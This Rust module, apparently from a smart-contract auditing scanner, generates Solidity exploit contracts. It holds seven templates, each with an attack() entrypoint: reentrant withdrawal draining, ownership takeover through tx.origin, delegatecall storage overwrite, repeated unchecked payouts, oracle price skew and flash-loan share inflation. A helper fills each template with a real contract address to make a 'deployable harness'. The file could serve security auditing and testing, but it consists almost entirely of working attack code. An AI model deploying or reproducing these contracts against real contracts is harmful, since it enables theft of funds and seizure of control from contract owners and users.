//! Proof-of-concept source templates, one per vulnerability category
//!
//! Each template is a complete deployable harness with an `attack()`
//! entrypoint. `{target}` is replaced with the audited contract address.

use crate::scanner::VulnerabilityKind;

const REENTRANCY_POC: &str = r#"// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

interface IVictim {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

contract ReentrantWithdrawal {
    IVictim constant target = IVictim({target});
    uint256 constant SEED = 1 ether;

    function attack() external payable {
        target.deposit{value: SEED}();
        target.withdraw(SEED);
    }

    receive() external payable {
        if (address(target).balance >= SEED) {
            target.withdraw(SEED);
        }
    }
}
"#;

const INTEGER_OVERFLOW_POC: &str = r#"// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

interface IVictim {
    function transfer(address to, uint256 amount) external;
    function balanceOf(address who) external view returns (uint256);
}

contract OverflowProbe {
    IVictim constant target = IVictim({target});

    function attack() external {
        // Drive the unchecked accounting path past the type boundary
        uint256 probe = type(uint256).max - target.balanceOf(address(this)) + 1;
        target.transfer(address(this), probe);
    }
}
"#;

const ACCESS_CONTROL_POC: &str = r#"// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

interface IVictim {
    function setOwner(address newOwner) external;
    function withdrawAll() external;
}

contract OwnershipTakeover {
    IVictim constant target = IVictim({target});

    function attack() external {
        // tx.origin-gated check passes when routed through this contract
        target.setOwner(address(this));
        target.withdrawAll();
    }

    receive() external payable {}
}
"#;

const DELEGATECALL_POC: &str = r#"// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

contract StorageOverwrite {
    // Slot layout mirrors the victim: slot 0 holds the owner
    address public owner;

    function attack() external {
        (bool ok, ) = address({target}).call(
            abi.encodeWithSignature(
                "delegate(address,bytes)",
                address(this),
                abi.encodeWithSignature("claim()")
            )
        );
        require(ok, "delegate route failed");
    }

    function claim() external {
        owner = tx.origin;
    }
}
"#;

const UNCHECKED_CALL_POC: &str = r#"// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

interface IVictim {
    function payout(address to, uint256 amount) external;
}

contract SilentFailureDrain {
    IVictim constant target = IVictim({target});

    function attack() external {
        // Repeated payouts; the victim never checks the send result, so
        // failed transfers still debit internal balances
        for (uint256 i = 0; i < 8; i++) {
            target.payout(address(this), address(target).balance / 8);
        }
    }

    receive() external payable {}
}
"#;

const PRICE_ORACLE_POC: &str = r#"// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

interface IPair {
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

interface IVictim {
    function borrowAgainstCollateral(uint256 amount) external;
}

contract OracleSkew {
    IVictim constant target = IVictim({target});
    IPair immutable pair;

    constructor(IPair p) { pair = p; }

    function attack() external {
        // Skew the reserve-derived spot price, then borrow at the
        // inflated valuation
        pair.swap(0, address(pair).balance / 2, address(this), "");
        target.borrowAgainstCollateral(type(uint128).max);
    }
}
"#;

const FLASH_LOAN_POC: &str = r#"// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.19;

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external;
}

interface IVictim {
    function deposit(uint256 amount) external;
    function redeem() external;
}

contract FlashLoanManipulation {
    IVictim constant target = IVictim({target});
    ILender immutable lender;
    address immutable token;

    constructor(ILender l, address t) { lender = l; token = t; }

    function attack() external {
        lender.flashLoan(address(this), token, 1_000_000e18, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256, bytes calldata)
        external
        returns (bytes32)
    {
        // Inflate the share price with borrowed liquidity, redeem against
        // it, repay inside the same transaction
        target.deposit(amount);
        target.redeem();
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
"#;

/// Render the category's template against a concrete target address
pub fn poc_for(kind: VulnerabilityKind, contract_address: &str) -> String {
    let template = match kind {
        VulnerabilityKind::Reentrancy => REENTRANCY_POC,
        VulnerabilityKind::IntegerOverflow => INTEGER_OVERFLOW_POC,
        VulnerabilityKind::AccessControl => ACCESS_CONTROL_POC,
        VulnerabilityKind::Delegatecall => DELEGATECALL_POC,
        VulnerabilityKind::UncheckedCall => UNCHECKED_CALL_POC,
        VulnerabilityKind::PriceOracle => PRICE_ORACLE_POC,
        VulnerabilityKind::FlashLoan => FLASH_LOAN_POC,
    };
    template.replace("{target}", contract_address)
}
